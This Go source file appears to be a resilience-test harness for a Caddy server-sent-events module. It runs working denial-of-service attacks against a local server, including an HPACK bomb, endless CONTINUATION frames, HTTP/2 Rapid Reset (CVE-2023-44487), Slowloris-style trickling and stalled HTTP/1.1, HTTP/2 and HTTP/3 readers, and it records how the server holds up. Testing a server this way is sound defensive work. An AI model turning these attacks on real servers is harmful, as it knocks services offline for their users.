package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/caddy-sse/caddy-sse/internal/connection"
	"github.com/caddy-sse/caddy-sse/internal/hostile"
)

// floodWorkers is small, because Caddy uses the same cores.
const floodWorkers = 8

var attacks = []attack{
	{name: "none", run: func(context.Context, *target) {}},
	{name: "HTTP/1.1: a header field of 1 MiB", run: requests("/events/x", "X-Flood: "+strings.Repeat("x", 1<<20)+"\r\n")},
	{name: "HTTP/1.1: `Last-Event-ID` of 15 KiB", run: requests("/events/x", "Last-Event-ID: "+strings.Repeat("x", 15<<10)+"\r\n")},
	{name: "HTTP/1.1: 1,800 header fields", run: requests("/events/x", manyFields(1800))},
	{name: "HTTP/1.1: open and close a stream", run: requests("/events/x", "")},
	{name: "HTTP/1.1: 100 topics in a query", run: requests("/choose?"+manyTopics(100, 1), "")},
	{name: "HTTP/1.1: 2,000 topics in a query", run: requests("/choose?"+manyTopics(2000, 1), "")},
	{name: "HTTP/1.1: a topic of 15 KiB", run: requests("/choose?t="+strings.Repeat("x", 15<<10), "")},
	{name: "HTTP/2: endless headers", run: endlessHeaders},
	{name: "HTTP/2: headers that decompress to 40 MiB", run: hpackBomb},
	{name: "HTTP/2: open and reset streams", run: rapidReset},
	{name: "2,000 connections with a byte of a header per second", span: 75 * time.Second, run: slowHeaders},
	{name: "1,000 connections with a byte of a body per second", span: 45 * time.Second, run: slowBodies},
	{name: "2,500 streams of one client", span: 20 * time.Second, run: manyStreams("/events/idle", 10, 250)},
	{name: "2,500 streams of one client, with 100 topics each", span: 20 * time.Second, run: manyStreams("/choose?"+manyTopics(100, 8), 10, 250)},
	{name: "HTTP/1.1: 200 clients that don't read", span: 50 * time.Second, run: stalledHTTP1},
	{name: "HTTP/2: 200 streams with a window of zero bytes", span: 50 * time.Second, run: stalledHTTP2Streams},
	{name: "HTTP/2: 20 unread connections with 10 streams each", span: 50 * time.Second, run: stalledHTTP2},
	{name: "HTTP/3: 100 unread streams", span: 50 * time.Second, run: stalledHTTP3},
}

// manyFields returns a header with n fields, smaller than 16 KiB.
func manyFields(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "x%d:y\r\n", i%1000)
	}
	return b.String()
}

// manyTopics returns a query with n topics, whose names have at least size bytes.
func manyTopics(n, size int) string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("t=%0*d", size, i)
	}
	return strings.Join(names, "&")
}

// requests floods with requests, each on a new connection, which it closes when the
// response begins.
func requests(path, header string) func(context.Context, *target) {
	request := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: localhost\r\nAccept: text/event-stream\r\n%s\r\n", path, header)
	return func(ctx context.Context, t *target) {
		t.flood(ctx, floodWorkers, func() string {
			conn, err := net.Dial("tcp", t.http)
			if err != nil {
				return "refused"
			}
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
			go func() { _, _ = io.WriteString(conn, withHost(request, t.http)) }()
			return statusOf(bufio.NewReader(conn))
		})
	}
}

// withHost sets the request's Host.
func withHost(request, address string) string {
	return strings.Replace(request, "Host: localhost", "Host: localhost"+address[strings.LastIndexByte(address, ':'):], 1)
}

// statusOf returns the status of a response.
func statusOf(r *bufio.Reader) string {
	line, err := r.ReadString('\n')
	_, rest, ok := strings.Cut(line, " ")
	if err != nil || !ok {
		return "closed"
	}
	return rest[:min(3, len(rest))]
}

// connect opens an HTTP/2 connection over TLS.
func connect(t *target, receiveBuffer int, window uint32) (*hostile.HTTP2, error) {
	conn, err := hostile.Dial(t.https, receiveBuffer)
	if err != nil {
		return nil, err
	}
	c, err := hostile.NewHTTP2(conn, "localhost", connection.Insecure(), window)
	if err != nil {
		conn.Close()
	}
	return c, err
}

// endlessHeaders sends CONTINUATION frames until the server closes the connection.
func endlessHeaders(ctx context.Context, t *target) {
	t.flood(ctx, floodWorkers, func() string {
		c, err := connect(t, 0, 1<<16)
		if err != nil {
			return "refused"
		}
		defer c.Close()
		go func() { _ = c.ReadFrames(func(http2.Frame) {}) }()
		field := append([]byte(nil), c.Block("/events/x", "x-flood", strings.Repeat("~", 8<<10))...)
		err = c.Frame(func(f *http2.Framer) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field[:100]})
		})
		sent := 0
		for ; err == nil && ctx.Err() == nil && sent < 64<<20; sent += 16 << 10 {
			err = c.Frame(func(f *http2.Framer) error { return f.WriteContinuation(1, false, make([]byte, 16<<10)) })
		}
		if sent >= 1<<20 {
			return "closed after 1 MiB or more"
		}
		return "closed after less than 1 MiB"
	})
}

// hpackBomb refers ten thousand times to a header field of 4 KB in the HPACK table
// (RFC 7541 §2.3).
func hpackBomb(ctx context.Context, t *target) {
	block := bomb()
	t.flood(ctx, floodWorkers, func() string {
		c, err := connect(t, 0, 1<<16)
		if err != nil {
			return "refused"
		}
		defer c.Close()
		if err := c.Frame(func(f *http2.Framer) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true, EndHeaders: true})
		}); err != nil {
			return "closed"
		}
		_ = c.SetDeadline(time.Now().Add(20 * time.Second))
		outcome := "closed"
		_ = c.ReadFrames(func(f http2.Frame) {
			switch f := f.(type) {
			case *http2.HeadersFrame:
				outcome = "response"
				if bytes.Contains(f.HeaderBlockFragment(), []byte("431")) { // the static table does not have it
					outcome = "431"
				}
				c.Close()
			case *http2.RSTStreamFrame:
				outcome = "stream reset"
				c.Close()
			case *http2.GoAwayFrame:
				outcome = "connection closed: " + f.ErrCode.String()
			}
		})
		return outcome
	})
}

// bomb returns the header block of a connection's first request.
func bomb() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	field := func(name, value string) { _ = encoder.WriteField(hpack.HeaderField{Name: name, Value: value}) } // into memory
	field(":method", http.MethodGet)
	field(":scheme", "https")
	field(":authority", "localhost")
	field(":path", "/events/x")
	for range 10_000 {
		field("x-bomb", strings.Repeat("~", 4000))
	}
	return block.Bytes()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t *target) {
	t.flood(ctx, floodWorkers, func() string {
		c, err := connect(t, 0, 1<<16)
		if err != nil {
			return "refused"
		}
		defer c.Close()
		reason := "connection closed"
		read := make(chan struct{})
		go func() {
			defer close(read)
			_ = c.ReadFrames(func(f http2.Frame) {
				if f, ok := f.(*http2.GoAwayFrame); ok {
					reason = "connection closed: " + f.ErrCode.String()
				}
			})
		}()
		for ctx.Err() == nil {
			stream, err := c.Get("/events/x")
			if err == nil {
				err = c.Reset(stream)
			}
			if err != nil {
				break
			}
			t.count("reset")
		}
		c.Close()
		<-read
		return reason
	})
}

// trickle writes the beginning of a request and then a byte per second. It returns
// when and how the connection ended.
func trickle(ctx context.Context, t *target, beginning string) string {
	conn, err := net.Dial("tcp", t.http)
	if err != nil {
		return "refused"
	}
	defer conn.Close()
	began := time.Now()
	responded := make(chan string, 1)
	go func() { responded <- statusOf(bufio.NewReader(conn)) }()
	_, _ = io.WriteString(conn, withHost(beginning, t.http))
	for {
		select {
		case status := <-responded:
			return fmt.Sprintf("%s after about %v", status, time.Since(began).Round(10*time.Second))
		case <-time.After(time.Second):
			_, _ = io.WriteString(conn, "x")
		case <-ctx.Done():
			return "held to the end"
		}
	}
}

func slowHeaders(ctx context.Context, t *target) {
	t.hold(ctx, 2000, func(int) string { return trickle(ctx, t, "GET /events/x HTTP/1.1\r\nHost: localhost\r\nX-Slow: ") })
}

func slowBodies(ctx context.Context, t *target) {
	t.hold(ctx, 1000, func(int) string {
		return trickle(ctx, t, "POST /publish/x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
	})
}

// manyStreams holds streams and reads them.
func manyStreams(path string, connections, each int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		t.hold(ctx, connections, func(int) string {
			c, err := connect(t, 0, 1<<20)
			if err != nil {
				return "refused"
			}
			defer c.Close()
			context.AfterFunc(ctx, func() { c.Close() })
			go func() {
				for range each {
					if _, err := c.Get(path); err != nil {
						return
					}
				}
			}()
			_ = c.ReadFrames(func(f http2.Frame) {
				if h, ok := f.(*http2.HeadersFrame); ok {
					if h.StreamEnded() {
						t.count("stream refused")
					} else {
						t.count("stream open")
					}
				}
			})
			return "connection held to the end"
		})
	}
}

// publishLoud publishes 20 events of 64 KiB a second, for clients that do not read.
func publishLoud(ctx context.Context, t *target) {
	url := "http://localhost" + t.http[strings.LastIndexByte(t.http, ':'):] + "/publish/loud"
	data := strings.Repeat("x", 64<<10)
	for ctx.Err() == nil {
		resp, err := http.Post(url, "text/plain", strings.NewReader(data))
		if err == nil {
			resp.Body.Close()
		}
		_ = pause(ctx, 50*time.Millisecond) // the loop checks the context
	}
}

// closed waits until Caddy ends the unread connections, and counts them.
func (t *target) closed(ctx context.Context, ours []net.Conn) {
	began := time.Now()
	for open := len(ours); open > 0 && pause(ctx, time.Second) == nil; {
		for left := t.served(ours); open > left; open-- {
			t.count(fmt.Sprintf("closed after about %v", time.Since(began).Round(10*time.Second)))
		}
	}
	<-ctx.Done()
	for range t.served(ours) {
		t.count("held to the end")
	}
}

func stalledHTTP1(ctx context.Context, t *target) {
	var ours []net.Conn
	for range 200 {
		conn, err := hostile.Dial(t.http, 1)
		if err != nil {
			t.count("refused")
			continue
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, withHost("GET /events/loud HTTP/1.1\r\nHost: localhost\r\n\r\n", t.http))
		ours = append(ours, conn)
	}
	go publishLoud(ctx, t)
	t.closed(ctx, ours)
}

func stalledHTTP2(ctx context.Context, t *target) {
	var ours []net.Conn
	for range 20 {
		c, err := connect(t, 1, 1<<30)
		if err != nil {
			t.count("refused")
			continue
		}
		defer c.Close()
		_ = c.Allow(0, 1<<30)
		for range 10 {
			_, _ = c.Get("/events/loud")
		}
		ours = append(ours, c)
	}
	go publishLoud(ctx, t)
	t.closed(ctx, ours)
}

func stalledHTTP2Streams(ctx context.Context, t *target) {
	c, err := connect(t, 0, 0)
	if err != nil {
		t.count("refused")
		return
	}
	defer c.Close()
	context.AfterFunc(ctx, func() { c.Close() })
	go func() {
		for range 200 {
			_, _ = c.Get("/events/loud")
		}
	}()
	go publishLoud(ctx, t)
	began := time.Now()
	_ = c.ReadFrames(func(f http2.Frame) {
		if _, ok := f.(*http2.RSTStreamFrame); ok {
			t.count(fmt.Sprintf("reset after about %v", time.Since(began).Round(10*time.Second)))
		}
	})
}

func stalledHTTP3(ctx context.Context, t *target) {
	const streams = 100
	transport := &http3.Transport{TLSClientConfig: connection.Insecure(), QUICConfig: &quic.Config{InitialStreamReceiveWindow: 16 << 10, MaxStreamReceiveWindow: 16 << 10}}
	defer transport.Close()
	client := &http.Client{Transport: transport}
	go publishLoud(ctx, t)
	began := time.Now()
	t.hold(ctx, streams, func(int) string {
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, "https://localhost"+t.https[strings.LastIndexByte(t.https, ':'):]+"/events/loud", nil)
		resp, err := client.Do(req)
		if err != nil {
			return "refused"
		}
		defer resp.Body.Close()
		if pause(ctx, 40*time.Second) != nil {
			return "held to the end"
		}
		if _, err := io.Copy(io.Discard, resp.Body); err != nil || ctx.Err() == nil {
			return fmt.Sprintf("had ended when read after %v", time.Since(began).Round(10*time.Second))
		}
		return "held to the end"
	})
}
